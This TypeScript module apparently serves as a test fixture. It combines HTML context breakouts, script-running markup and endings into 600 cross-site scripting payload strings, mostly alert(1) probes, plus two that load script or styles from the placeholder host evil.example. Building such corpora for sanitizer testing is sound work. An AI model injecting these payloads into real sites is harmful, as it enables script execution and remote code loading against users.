/** What ends the text, attribute, element or comment that a page may put data into. */
const BREAKOUTS = [
  '',
  'Almaz ',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  '" autofocus onfocus="alert(1)" x="',
]

/** Runs a script, or loads one, once it is markup. */
const ACTIVE = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<form action="javascript:alert(1)"><button>x</button>',
  '<style>@import"//evil.example/x"</style>',
  '<object data="javascript:alert(1)">',
]

const ENDS = ['', '<!--', ' ከበደ', '<b>', '{{alert(1)}}']

/** 600 different texts that are a script wherever a page takes data for markup. */
export const MARKUP: readonly string[] = BREAKOUTS.flatMap((breakout) =>
  ACTIVE.flatMap((active) => ENDS.map((end) => `${breakout}${active}${end}`)),
)
